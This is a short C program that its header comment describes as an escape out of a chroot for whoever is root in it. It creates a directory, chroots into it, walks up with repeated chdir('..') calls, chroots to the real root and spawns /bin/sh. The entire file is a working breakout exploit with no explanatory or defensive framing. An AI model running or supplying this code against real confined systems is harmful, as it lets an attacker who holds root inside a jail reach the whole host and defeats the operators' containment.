/* escape: out of a chroot, for whoever is root in it. */
#define _DEFAULT_SOURCE
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#define DEEPER_THAN_ANY 64

int main(void)
{
	int i;

	mkdir("x", 0700);
	if (chroot("x") == -1) {	/* the root goes down, we stay */
		perror("chroot");
		return 1;
	}
	for (i = 0; i < DEEPER_THAN_ANY; i++)	/* ".." stops at the root only */
		if (chdir("..") == -1) {
			perror("chdir");
			return 1;
		}
	if (chroot(".") == -1) {
		perror("chroot");
		return 1;
	}
	execl("/bin/sh", "sh", NULL);
	perror("execl");
	return 1;
}
